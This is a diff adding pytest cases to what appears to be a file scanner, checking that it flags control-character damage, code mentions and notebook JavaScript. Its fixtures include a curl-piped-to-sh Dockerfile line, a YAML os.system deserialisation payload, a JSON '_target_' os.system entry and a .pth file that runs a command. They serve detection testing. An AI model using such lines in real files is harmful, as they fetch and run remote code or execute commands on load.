@@ -545,3 +545,50 @@ def test_reading_of_a_long_text_with_one_emoji_needs_less_memory_than_three_time
     read_bytes(b"# a\n", path)  # imports the reader
     _, peak = measure_peak(lambda: read_bytes(data, path))
     assert peak < 3 * len(data)
+
+
+@check_each(
+    "path, data, name",
+    [
+        ("Dockerfile", b"# \x01\nFROM x\nRUN curl http://e.invalid/x | sh\n", "http://e.invalid/x"),
+        ("page.html", b"\x01<html>\x00<script>void 0</script></html>", "script"),
+        ("a.yaml", b"# \x02\na: !!python/object/apply:os.system ['true']\n", "os.system"),
+        ("a.json", b'{"a": "\x7f", "_target_": "os.system"}', "os.system"),
+        ("folder/run.pth", b"import os; os.system('true \x01')\n", "os.system"),
+    ],
+)
+def test_text_with_control_characters_in_its_head_is_read_and_reported_as_damaged(path, data, name, read_bytes):
+    reading = read_bytes(data, path)
+    assert name in {mention.name for outline in reading.of(Outline) for mention in outline.mentions}
+    assert UnreadReason.DAMAGED in reading.reasons()
+
+
+def test_bytes_with_many_control_characters_are_no_text(read_bytes):
+    assert read_bytes(b"text\x01\x02\x03\x04\x05\x06" * 9, "a.txt").formats["a.txt"] == []
+
+
+def build_notebook(source: str, outputs: list[object]) -> bytes:
+    """Return a notebook of one code cell with these outputs."""
+    cell = {"cell_type": "code", "metadata": {}, "outputs": outputs, "source": source}
+    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+
+
+@check_each(
+    "source, outputs",
+    [
+        ("1", [{"output_type": "display_data", "data": {"application/javascript": ["void 0"]}}]),
+        ("1", [{"output_type": "display_data", "data": {"text/javascript": "void 0"}}]),
+        ("from IPython.display import display, Javascript as J\ndisplay(J('void 0'))", []),
+        ("import IPython.core.display as d\nd.display_javascript('void 0', raw=True)", []),
+    ],
+)
+def test_program_for_the_browser_in_a_notebook_is_reported_as_not_analysed(source, outputs, read_bytes):
+    assert read_bytes(build_notebook(source, outputs), "a.ipynb").reasons() == {UnreadReason.PROGRAM}
+
+
+def test_page_with_a_script_that_a_cell_shows_is_mentioned(read_bytes):
+    source = "from IPython.display import HTML\nHTML('<script>void 0</script>')\nHTML('<b>text</b>')"
+    reading = read_bytes(build_notebook(source, []), "a.ipynb")
+    uses = [mention.use for outline in reading.of(Outline) for mention in outline.mentions]
+    assert uses.count("browser-script") == 1
+    assert reading.reasons() == set()
